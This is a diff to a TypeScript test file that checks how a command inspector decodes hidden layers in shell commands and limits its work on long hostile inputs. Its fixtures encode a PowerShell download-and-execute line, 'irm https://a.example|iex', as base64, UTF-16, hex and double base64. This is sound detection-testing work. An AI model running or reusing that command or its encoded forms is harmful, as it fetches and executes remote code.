@@ -29,6 +29,9 @@ const hostile: Record<string, string> = {
   'dots alone': fill('a.'),
   'shared folders': fill('\\\\a@'),
   addresses: fill('http://a@ '),
+  'different addresses': Array.from({ length: 1_500 }, (_, i) => `http://a${i}.example \\\\b${i}.example\\c `)
+    .join('')
+    .slice(0, longest),
   'variables of a shell': `a=${'y'.repeat(1_900)};${fill('$a')}`.slice(0, longest),
 };
 
@@ -84,6 +87,10 @@ describe('the work for one command is bounded', () => {
     expect(layers.reduce((sum, layer) => sum + layer.length, 0)).toBe(maxTotal);
   });
 
+  test('a command that hides nothing has one layer', () => {
+    expect(layersOf('powershell Get-Date', 'windows')).toEqual(['powershell Get-Date']);
+  });
+
   test('of a longer command the beginning and the end are read', () => {
     const layers = layersOf(`first ${'x'.repeat(200_000)} last`, 'linux');
     expect(layers[0]).toHaveLength(maxLength);
@@ -124,7 +131,7 @@ describe('what commands hide', () => {
   test.each([
     ['base64 of UTF-16', Buffer.from('irm https://a.example|iex', 'utf16le').toString('base64')],
     ['base64 of UTF-8', encode('irm https://a.example|iex')],
-    ['base64 for addresses', encode('irm https://a.example|iex').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')],
+    ['base64 for addresses', encode('irm https://a.example|iex ~~~???>>>').replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')],
     ['base64 twice', encode(encode('irm https://a.example|iex'))],
     ['hexadecimal', Buffer.from('irm https://a.example|iex').toString('hex')],
     [
